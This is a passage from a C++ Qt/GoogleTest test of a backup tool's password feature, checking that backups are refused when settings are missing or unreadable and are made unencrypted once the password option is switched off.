        QTextStream out(&outText), err(&errText);
        const int status = line.run(out, err);
        *said = outText + errText;
        return status;
    };
    QString said;
    ASSERT_TRUE(QFile::remove(settings));
    EXPECT_EQ(backUp(&said), 1) << "settings lost";
    EXPECT_TRUE(said.contains("protected with a password")) << said.toStdString();
    // The window asks for the password, and makes no backup without it.
    auto *window = new backup::frmZipCreate;
    window->show();
    services.answerText(std::nullopt);
    window->menuItem("mnuAutomaticBackup")->trigger();
    delete window;
    EXPECT_EQ(boxesLike("The backup was not made").size(), 1) << services.boxTexts().join(" | ").toStdString();

    // A database from before the password was set, and settings that cannot
    // be read: nothing tells, and nothing is written.
    sqlite3 *db = nullptr;
    ASSERT_EQ(sqlite3_open(QFile::encodeName(folder.databasePath()).constData(), &db), SQLITE_OK);
    ASSERT_EQ(sqlite3_exec(db, "DROP TABLE VantrelSettings", nullptr, nullptr, nullptr), SQLITE_OK);
    sqlite3_close(db);
    ASSERT_TRUE(QDir().mkdir(settings));
    EXPECT_EQ(backUp(&said), 1) << "settings unreadable";
    EXPECT_TRUE(said.contains(settings)) << said.toStdString();
    window = new backup::frmZipCreate;
    window->show();
    window->menuItem("mnuAutomaticBackup")->trigger();
    delete window;
    EXPECT_EQ(boxesLike("The backup was not made: whether your backups").size(), 1)
        << services.boxTexts().join(" | ").toStdString();
    EXPECT_FALSE(QFileInfo::exists(destination));
    EXPECT_FALSE(QFileInfo::exists(QDir(drive).filePath("VantrelBackup.zip")));

    // Turned off in the window, with the settings readable again, backups
    // are made in the clear.
    QDir().rmdir(settings);
    services.answerText(QString("Strike!9"));
    services.answerText(QString("Strike!9"));
    services.answerText(QString());
    window = new backup::frmZipCreate;
    window->show();
    window->menuItem("mnuOptionsPassword")->trigger();
    window->menuItem("mnuOptionsPassword")->trigger();
    delete window;
    EXPECT_EQ(backUp(&said), 0) << said.toStdString();
    EXPECT_FALSE(said.contains("(encrypted)"));
    if (!bus.isEmpty())
        qputenv("DBUS_SESSION_BUS_ADDRESS", bus);
}

} // namespace
